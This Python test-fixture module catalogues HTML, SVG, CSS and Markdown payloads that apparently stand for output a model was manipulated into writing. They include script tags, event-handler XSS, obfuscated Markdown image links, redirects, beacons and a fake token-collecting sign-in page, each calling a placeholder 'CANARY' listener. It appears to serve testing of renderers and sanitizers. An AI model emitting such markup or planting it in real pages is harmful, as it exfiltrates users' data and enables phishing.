"""Documents that a model may have been talked into writing. CANARY stands for the address of somebody who listens."""

from __future__ import annotations

#: What a script of theirs says on the console when it runs.
RAN = "the hostile script ran"
_SAY = f"console.log('{RAN}')"
_NS = 'xmlns="http://www.w3.org/2000/svg"'
_IMAGE = '<image href="CANARY/hit" width="9" height="9"/>'
_CALL = f"{_SAY};fetch('CANARY/hit')"

#: Each fetches or runs something by itself, in a browser that is not told otherwise. They do not disturb each other.
TOGETHER = {
    "script": f"<script>{_CALL}</script>",
    "script from elsewhere": "<script src='CANARY/hit'></script>",
    "module script": f"<script type=module>{_CALL}</script>",
    "image": "<img src='CANARY/hit'>",
    "image set": "<img srcset='CANARY/hit 1x'>",
    "onerror": f'<img src=x onerror="{_CALL}">',
    "ontoggle": f'<details open ontoggle="{_CALL}">x</details>',
    "autofocus": f'<input autofocus onfocus="{_CALL}">',
    "inline svg": f"<svg><g/><script>{_CALL}</script></svg>",
    "svg picture": f"<svg>{_IMAGE}</svg>",
    "svg foreignObject": '<svg><foreignObject width="9" height="9"><img src="CANARY/hit"/></foreignObject></svg>',
    "svg animation": '<svg><image width="9" height="9"><set attributeName="href" to="CANARY/hit"/></image></svg>',
    "image button": "<form><input type=image src='CANARY/hit'></form>",
    "css url": "<style>body{background:url(CANARY/hit)}</style>",
    "css attribute": "<p style=\"background:url('CANARY/hit')\">x</p>",
    "css import": "<style>@import 'CANARY/hit';</style>",
    "css font": "<style>@font-face{font-family:a;src:url(CANARY/hit)}body{font-family:a}</style>text",
    "css from elsewhere": "<link rel=stylesheet href='CANARY/hit'>",
    "old background": "<table background='CANARY/hit'><tr><td>x</table>",
    "prefetch": "<link rel=prefetch href='CANARY/hit'>",
    "preload": "<link rel=preload as=image href='CANARY/hit'>",
    "module preload": "<link rel=modulepreload href='CANARY/hit'>",
    "object": "<object data='CANARY/hit'></object>",
    "embed": "<embed src='CANARY/hit'>",
    "frame": "<iframe src='CANARY/hit'></iframe>",
    "srcdoc": f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    "video": "<video src='CANARY/hit' poster='CANARY/hit'></video>",
    "audio": "<audio src='CANARY/hit' autoplay></audio>",
    "track": "<video crossorigin><track default src='CANARY/hit'></video>"
    "<script>document.querySelector('track').track.mode='showing'</script>",
    "service worker": f"<script>{_CALL};navigator.serviceWorker?.register('/static/x/app.js')</script>",
    "socket": f"<script>{_SAY};new WebSocket('CANARY/hit'.replace('http','ws'))</script>",
    "beacon": f"<script>{_SAY};navigator.sendBeacon('CANARY/hit')</script>",
    "rtc": f"<script>{_CALL};"
    "new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1'}]}).createDataChannel('x')</script>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/hit"]}]}</script>'
    "<img src='CANARY/hit'>",
    "template": "<template shadowrootmode=open><img src='CANARY/hit'></template>",
}
#: These take the page elsewhere, some when `#go` is clicked.
ALONE = {
    "ping": "<a id=go href='#x' ping='CANARY/hit'>x</a>",
    "onload": f'<body onload="{_CALL}">',
    "javascript link": f'<a id=go href="javascript:{_CALL}">Sign in</a>',
    "meta refresh": "<meta http-equiv=refresh content='0;url=CANARY/hit'>",
    "base": "<base href='CANARY/hit/'><img src='x'>",
    "autosubmit": "<form action='CANARY/hit'></form><script>document.forms[0].submit()</script>",
    "form": "<form action='CANARY/hit'><input type=password><button id=go>Sign in</button></form>",
    "frame of a script": f'<iframe src="javascript:{_CALL}"></iframe>',
    "link to all windows": "<a id=go target=_top href='CANARY/hit'>Continue</a><script>go.click()</script>",
    "window": f"<script>{_SAY};open('CANARY/hit')</script>",
    "top": f"<script>{_SAY};top.location='CANARY/hit'</script>",
    "message": f"<script>{_SAY};(opener||parent).postMessage({{sign:'in'}},'*');fetch('CANARY/hit')</script>",
    "blob": f"<script>{_SAY};"
    "location=URL.createObjectURL(new Blob(['<img src=CANARY/hit>'],{type:'text/html'}))</script>",
    "broken markup": f"<p <img src='CANARY/hit'><svg/onload={_SAY}><img src='CANARY/hit'>",
    "sign-in page": "<title>Sign in · leadmagnet</title><h1>Sign in to leadmagnet</h1>"
    "<form method=post action='CANARY/hit'>"
    "<label>Token <input name=token value=secret></label><button id=go>Sign in</button></form>",
}
SVG = {
    "svg file": f"<svg {_NS}><script>{_CALL}</script></svg>",
    "svg file with a picture": f"<svg {_NS}>{_IMAGE}</svg>",
    "svg file with a style sheet": '<?xml-stylesheet href="CANARY/hit"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "svg file with html": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
    '<img xmlns="http://www.w3.org/1999/xhtml" src="CANARY/hit"/></foreignObject></svg>',
}
#: Do nothing but open a connection, which tells as much as a request; no content security policy forbids that.
CONNECTING = {"preconnect": "<link rel=preconnect href='CANARY'>"}

#: As texts that are shown as Markdown, in all the ways that an address can be written.
MARKDOWN = [
    "![x](CANARY/hit)",
    "![x](\x01CANARY/hit)",
    "![x](//HOST/hit)",
    "![x](\\\\\\\\HOST/hit)",
    "![x](/\\\\HOST/hit)",
    "![x][a]\n\n[a]: CANARY/hit",
    "![x](<CANARY/hit> 'title')",
    "[![x](CANARY/hit)](CANARY/hit)",
    "![x](&#104;ttp://HOST/hit)",
    f"[x](javascript:{_SAY})",
    f"[x](java\tscript:{_SAY})",
    f"[x](data:text/html,<script>{_SAY}</script>)",
    f"<a href='javascript:{_SAY}'>x</a>",
    "<img src='CANARY/hit'>",
    f'<svg onload="{_SAY}">',
    "<link rel=preconnect href='CANARY'>",
    f'|a|\n|-|\n|<img src=x onerror="{_SAY}">|',
    f"```\n</code></pre><script>{_SAY}</script>\n```",
]
